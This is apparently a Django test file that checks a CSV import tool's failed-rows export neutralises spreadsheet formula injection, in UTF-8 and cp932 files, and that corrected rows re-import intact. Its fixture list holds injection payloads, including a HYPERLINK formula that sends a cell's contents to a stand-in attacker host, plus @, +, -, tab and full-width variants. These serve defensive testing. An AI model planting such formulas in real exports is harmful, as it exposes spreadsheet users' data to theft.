"""The failed-rows file: the file's own cells go back to Excel, so a cell that a
spreadsheet would run as a formula is neutralised there as in every export — and a file
corrected in Excel imports with the values it had."""

from __future__ import annotations

import csv
import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from daifuku.customers.models import Person
from daifuku.imports import services

# each row fails (the e-mail is not one), each has a dangerous first character in its notes
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "+81-90-1234-5678",
    "-2+3",
    "@SUM(A1:A2)",
    "\tタブ",
    "\r改行",
    "＝１＋１",
    "＋８１",
    "－５",
    "＠ＳＵＭ(A1)",
]


def _file() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(["氏名", "メールアドレス", "備考"])
    for index, text in enumerate(DANGEROUS):
        writer.writerow([f"山田 {index}", "not-an-email", text])
    return out.getvalue().encode("cp932")


def _failed_run(rep, run_import):
    run = services.upload(actor=rep, file=SimpleUploadedFile("x.csv", _file()), name="x.csv")
    run = run_import(rep, run)
    assert run.failed_count == len(DANGEROUS)
    return run


def _notes(body: str) -> list[str]:
    return [row[2] for row in list(csv.reader(io.StringIO(body)))[1:]]


def test_api_failed_csv_neutralises_formulas(rep, rep_api, run_import):
    run = _failed_run(rep, run_import)
    body = rep_api.get(f"/api/v1/imports/{run.pk}/failed.csv").content.decode("utf-8-sig")
    assert _notes(body) == ["'" + text for text in DANGEROUS]


def test_ui_failed_rows_in_cp932_neutralise_formulas(rep, run_import):
    run = _failed_run(rep, run_import)
    client = Client()
    client.force_login(rep)
    response = client.get(reverse("imports:failed", args=[run.pk]), {"encoding": "cp932"})
    assert _notes(response.content.decode("cp932")) == ["'" + text for text in DANGEROUS]


def test_corrected_failed_rows_import_with_their_values(rep, run_import):
    run = _failed_run(rep, run_import)
    body = (
        services.failed_rows_csv(run)
        .decode("utf-8-sig")
        .replace("not-an-email", "ok@example.jp", 1)
    )
    again = services.upload(
        actor=rep, file=SimpleUploadedFile("fixed.csv", body.encode("utf-8-sig")), name="fixed.csv"
    )
    again = run_import(rep, again, mode="create")
    assert again.created_count == 1
    assert Person.objects.get().notes == DANGEROUS[0]
